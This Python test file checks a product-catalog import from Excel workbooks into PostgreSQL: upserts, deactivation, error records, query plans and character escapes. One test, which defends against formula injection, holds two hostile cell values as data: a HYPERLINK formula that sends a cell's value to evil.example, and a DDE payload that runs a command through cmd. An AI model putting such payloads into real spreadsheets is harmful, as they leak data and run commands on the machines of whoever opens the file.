"""Importing product lists into the real PostgreSQL: idempotent, recorded, reported."""

from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, text

from automat_pipeline.catalog import CatalogRow
from automat_pipeline.catalog_import import (
    DEACTIVATE,
    MEDIA_CHANGED,
    attach_report,
    import_workbook,
    imports_without_report,
    write_products,
)
from automat_pipeline.db import repository
from automat_pipeline.db.database import session
from automat_pipeline.db.models import CatalogImport, Product, ProductFile

HEADER = ["PIM-ID", "Bezeichnung", "Lagertyp", "Materialien"]
ROWS = [
    ["DGBB-6204", "Rillenkugellager 6204", "Rillenkugellager", "Outer_Ring=Steel; Cage=Brass"],
    ["CRB-NU204", "Zylinderrollenlager NU204", "Zylinderrollenlager", None],
    ["TRB-30204", "Kegelrollenlager 30204", "Kegelrollenlager", None],
    [None, "ohne Nummer", None, None],
]


def write(path: Path, rows: list[list]) -> Path:
    wb = Workbook()
    for row in [HEADER, *rows]:
        wb.active.append(row)
    wb.save(path)
    return path


@pytest.fixture
def db(env):
    url = env["AUTOMAT_DATABASE_URL"]
    with session(url) as s, s.begin():
        repository.tenant(s, "acme")

    def run(path: Path, trigger: str = "test"):
        with session(url) as s, s.begin():
            return import_workbook(s, repository.tenant(s, "acme"), path, trigger)

    run.url = url
    return run


def products(url: str) -> dict[str, Product]:
    with session(url) as s:
        return {p.pim_id: p for p in s.scalars(select(Product))}


def test_import_writes_products_materials_record_and_report(db, tmp_path):
    result = db(write(tmp_path / "liste.xlsx", ROWS))
    assert result.status == "ok"
    assert result.counts == {
        "rows": 4,
        "accepted": 3,
        "rejected": 1,
        "created": 3,
        "updated": 0,
        "unchanged": 0,
        "deactivated": 0,
    }
    stored = products(db.url)
    assert stored["DGBB-6204"].lagertyp == "Rillenkugellager" and stored["DGBB-6204"].source_file == "liste.xlsx"
    assert stored["DGBB-6204"].materials == {"Outer_Ring": "Steel", "Cage": "Brass"}
    assert stored["CRB-NU204"].materials == {}
    with session(db.url) as s:
        record = s.get(CatalogImport, result.import_id)
        assert (record.status, record.trigger, record.counts["created"]) == ("ok", "test", 3)
        assert record.outcomes["rejected"] == [{"sheet": "Sheet", "row": 5, "reason": "missing PIM-ID"}]
    with session(db.url) as s, s.begin():
        [pending] = imports_without_report(s, repository.tenant(s, "acme").id)
        report_path = attach_report(s, pending, tmp_path / "liste.xlsx", tmp_path / "reports")
    report = load_workbook(report_path, read_only=True).active
    lines = [list(r) for r in report.iter_rows(values_only=True)]
    assert lines[0] == ["Row", *HEADER, "Status", "Reason"]
    assert lines[1][:3] == [2, "DGBB-6204", "Rillenkugellager 6204"] and lines[1][-2:] == ["imported", None]
    assert lines[4][-2:] == ["rejected", "missing PIM-ID"]


def test_reimport_changes_nothing_and_one_changed_row_writes_one_row(db, tmp_path):
    db(write(tmp_path / "liste.xlsx", ROWS))
    before = {k: p.updated_at for k, p in products(db.url).items()}
    same = db(write(tmp_path / "liste.xlsx", ROWS))
    assert (same.counts["created"], same.counts["updated"], same.counts["unchanged"]) == (0, 0, 3)
    assert {k: p.updated_at for k, p in products(db.url).items()} == before
    changed = [list(r) for r in ROWS]
    changed[1][1] = "Zylinderrollenlager NU 204"
    changed[0][3] = "Outer_Ring=Steel; Cage=Polyamide"
    result = db(write(tmp_path / "liste.xlsx", changed))
    assert (result.counts["created"], result.counts["updated"], result.counts["unchanged"]) == (0, 2, 1)
    after = products(db.url)
    assert sorted(k for k, p in after.items() if p.updated_at != before[k]) == ["CRB-NU204", "DGBB-6204"]
    assert after["DGBB-6204"].materials["Cage"] == "Polyamide"


def test_products_missing_from_a_reimport_become_inactive(db, tmp_path):
    db(write(tmp_path / "liste.xlsx", ROWS))
    db(write(tmp_path / "other.xlsx", [["X-1", "elsewhere", None, None]]))
    result = db(write(tmp_path / "liste.xlsx", ROWS[:1]))
    assert result.counts["deactivated"] == 2
    stored = products(db.url)
    assert {k: p.active for k, p in stored.items()} == {
        "DGBB-6204": True,
        "CRB-NU204": False,
        "TRB-30204": False,
        "X-1": True,
    }  # never deleted
    again = db(write(tmp_path / "liste.xlsx", ROWS))
    assert (again.counts["updated"], again.counts["deactivated"]) == (2, 0)  # back to active


def test_key_already_taken_by_another_pim_id(db, tmp_path):
    db(write(tmp_path / "a.xlsx", [["A B", "first", None, None]]))
    result = db(write(tmp_path / "b.xlsx", [["A/B", "second", None, None], ["C", "fine", None, None]]))
    assert result.counts["created"] == 1
    assert [r.reason for r in result.rejected] == [
        "PIM-ID 'A/B' maps to product key 'A_B', which PIM-ID 'A B' already has"
    ]


def test_a_bad_workbook_is_recorded_and_kept(db, tmp_path):
    bad = tmp_path / "kaputt.xlsx"
    bad.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    result = db(bad)
    assert result.status == "failed" and result.error.error_class == "legacy_xls"
    with session(db.url) as s:
        record = s.get(CatalogImport, result.import_id)
        assert record.status == "failed" and record.error.startswith("legacy_xls: kaputt.xlsx is a legacy .xls")
        [file] = s.scalars(select(ProductFile)).all()
        assert (file.filename, file.status) == ("kaputt.xlsx", "rejected")
    assert bad.is_file()


def test_tenant_settings_from_the_database_steer_the_import(db, tmp_path):
    with session(db.url) as s, s.begin():
        repository.tenant(s, "acme").settings = {
            "catalog": {"columns": {"Nr.": "pim_id", "Text": "name"}, "categories": ["ball"]}
        }
    wb = Workbook()
    for row in (["Nr.", "Text", "Kategorie"], ["N-1", "kugel", "ball"], ["N-2", "rolle", "roller"]):
        wb.active.append(row)
    wb.save(tmp_path / "eigen.xlsx")
    result = db(tmp_path / "eigen.xlsx")
    assert result.counts["created"] == 1 and [r.reason for r in result.rejected] == ["unknown category 'roller'"]
    with session(db.url) as s, s.begin():
        repository.tenant(s, "acme").settings = {"catalog": {"colums": {}}}
    broken = db(tmp_path / "eigen.xlsx")
    assert broken.status == "failed" and broken.error.error_class == "invalid_settings"


def nested_loops_over_a_full_scan(plan: dict) -> list[str]:
    """The nested loops of a JSON plan whose inner side scans a whole table: quadratic in its rows."""
    found = []
    children = plan.get("Plans", [])
    if plan["Node Type"] == "Nested Loop":
        inner = next(c for c in children if c.get("Parent Relationship") == "Inner")
        if inner["Node Type"] == "Seq Scan":
            found.append(f"{plan.get('Join Type')} join, inner full scan of {inner['Relation Name']}")
    for child in children:
        found += nested_loops_over_a_full_scan(child)
    return found


def test_a_new_tenants_import_stays_linear_in_a_database_with_statistics(db):
    """PostgreSQL estimates 1 product for a tenant its statistics have not seen, and may then join
    the new tenant's products to the import with a nested loop: it must look each one up, not scan
    the whole import once per product (quadratic: minutes at 100k rows). Checked on the plan
    PostgreSQL picks, and on the nested loop it may pick (hash and merge joins switched off)."""
    with session(db.url) as s, s.begin():
        old = repository.tenant(s, "acme")
        s.execute(
            text(
                "INSERT INTO products (tenant_id, pim_id, key, name, materials, attributes, source_file, active) "
                "SELECT :t, 'P-' || n, 'P-' || n, 'Old ' || n, '{}', '{}', 'list.xlsx', true "
                "FROM generate_series(1, 20000) n"
            ),
            {"t": old.id},
        )
        s.execute(text("ANALYZE products"))
    rows = [CatalogRow("Sheet", i + 2, f"P-{i}", f"New {i}", key=f"P-{i}") for i in range(20000)]
    with session(db.url) as s, s.begin():
        new = repository.tenant(s, "newco")
        counts, _ = write_products(s, new.id, "list.xlsx", rows)
        assert counts["created"] == 20000
        for settings in ([], ["enable_hashjoin", "enable_mergejoin"]):
            for setting in settings:
                s.execute(text(f"SET LOCAL {setting} = off"))
            for statement in (DEACTIVATE, MEDIA_CHANGED):
                params = {"tenant": new.id, "source": "list.xlsx"}
                [[plan]] = s.execute(text(f"EXPLAIN (FORMAT JSON) {statement}"), params)
                assert nested_loops_over_a_full_scan(plan[0]["Plan"]) == [], (settings, plan)


def test_text_that_looks_like_a_formula_stays_text_in_the_report(db, tmp_path):
    """A client's cells holding "=HYPERLINK(…)" as text must not come back as live formulas."""
    wb = Workbook()
    for row in (["PIM-ID", "Bezeichnung"], ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0"]):
        wb.active.append(row)
    for cell in wb.active[2]:
        cell.data_type = "s"  # text in the client's file, as Excel keeps a cell typed '=…
    wb.save(tmp_path / "injection.xlsx")
    assert db(tmp_path / "injection.xlsx").status == "ok"
    with session(db.url) as s, s.begin():
        [pending] = imports_without_report(s, repository.tenant(s, "acme").id)
        report_path = attach_report(s, pending, tmp_path / "injection.xlsx", tmp_path / "reports")
    cells = load_workbook(report_path).active[2]
    assert [c.data_type for c in cells[1:3]] == ["s", "s"]
    assert cells[2].value == "=cmd|' /C calc'!A0"


def test_a_cell_escaping_nul_imports_with_the_replacement_character(db, tmp_path):
    """Excel's _x0000_ escape spells U+0000, which PostgreSQL cannot hold: the import failed without
    a class and took every other workbook of the tenant with it (_xD800_ is kept as written)."""
    path = write(tmp_path / "escapes.xlsx", [["A_x0000_1", "Lager _xD800_", "Rillenkugellager", "Cage=Brass_x0000_"]])
    record = db(path)
    assert record.status == "ok", record.error
    [product] = products(db.url).values()
    assert (product.pim_id, product.name, product.materials) == ("A\ufffd1", "Lager _xD800_", {"Cage": "Brass\ufffd"})


def test_control_characters_a_worksheet_cannot_hold_reach_the_report_as_the_replacement_character(db, tmp_path):
    """Excel's _x0001_ and _x0000_ escapes spell control characters openpyxl refuses to write: the
    report step failed without a class (IllegalCharacterError) after the import had succeeded."""
    path = write(tmp_path / "controls.xlsx", [["C_x0000_1", "Lager_x0001_ 6204", None, None]])
    assert db(path).status == "ok"
    with session(db.url) as s, s.begin():
        [pending] = imports_without_report(s, repository.tenant(s, "acme").id)
        report_path = attach_report(s, pending, path, tmp_path / "reports")
    assert [c.value for c in load_workbook(report_path).active[2]][1:3] == ["C\ufffd1", "Lager\ufffd 6204"]
